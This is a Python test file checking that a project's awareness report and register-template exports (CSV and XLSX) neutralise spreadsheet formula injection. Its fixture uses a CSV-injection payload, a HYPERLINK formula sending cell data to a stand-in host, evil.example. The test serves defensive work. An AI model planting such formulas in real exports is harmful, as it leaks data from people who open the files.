"""Every awareness export (report CSV and XLSX, register templates) escapes formulas."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

import pytest
from openpyxl import load_workbook

from tabara.accounts.roles import Role
from tabara.awareness.models import Participant
from tabara.awareness.services import knowledge
from tabara.awareness.tests.factories import make_activity
from tabara.core.spreadsheets import FORMULA_STARTS

TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
PLAIN_NUMBER = ("-", "+")


def assert_safe(cells: Sequence[object]) -> None:
    """No text cell starts with a formula character, unless it is only a number."""
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            assert cell.startswith(PLAIN_NUMBER), cell
            float(cell)  # "-3.5" is data; "-1+cmd" is not a number and fails here


@pytest.fixture
def officer_with_hostile_title(geography, staff_client):
    client, officer = staff_client(Role.PROGRAMME_OFFICER)
    activity = make_activity(officer, title=TITLE)
    person = Participant.objects.create(activity=activity, number=1, sex="female", age_band="18-24")
    test = knowledge.knowledge_test_for(activity=activity)
    knowledge.attempt_record(test=test, participant=person, phase="pre", score=60)
    knowledge.attempt_record(test=test, participant=person, phase="post", score=40)
    return client


def test_the_report_csv_escapes_a_hostile_activity_title(officer_with_hostile_title) -> None:
    body = officer_with_hostile_title.get("/en/staff/awareness/report.csv").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + TITLE in cells
    assert_safe(cells)


def test_the_report_xlsx_holds_the_title_as_text_not_a_formula(officer_with_hostile_title) -> None:
    body = officer_with_hostile_title.get("/en/staff/awareness/report.xlsx").content
    book = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + TITLE in [cell.value for cell in cells]
    assert_safe([cell.value for cell in cells])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_register_templates_are_safe(geography, staff_client, fmt: str) -> None:
    client, _officer = staff_client(Role.PROGRAMME_OFFICER)
    body = client.get(f"/en/staff/awareness/attendance-template.{fmt}").content
    if fmt == "csv":
        cells: list[object] = [c for row in csv.reader(io.StringIO(body.decode())) for c in row]
    else:
        book = load_workbook(io.BytesIO(body))
        cells = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert "number" in cells
    assert_safe(cells)
